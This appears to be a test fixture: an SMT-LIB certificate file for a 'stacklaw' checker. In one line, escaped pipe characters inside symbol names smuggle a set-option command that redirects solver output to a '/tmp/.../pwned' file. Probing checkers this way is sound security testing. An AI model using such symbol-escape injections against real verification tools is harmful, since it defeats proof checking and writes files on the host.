; stacklaw certificate 2
; game: mtg
; property: x
; obligations: 1
(set-logic QF_LIA)
(define-fun |\|| () Bool true) (set-option :regular-output-channel "/tmp/w-read2/pwned") (define-fun |x\|| () Bool true)
; obligation: a
(push 1)
(assert false)
(check-sat)
(pop 1)
; sha256: 1440a77b7d28b65bb647460a2761bc077220f256a88678d2fa6ef411b8b588c9
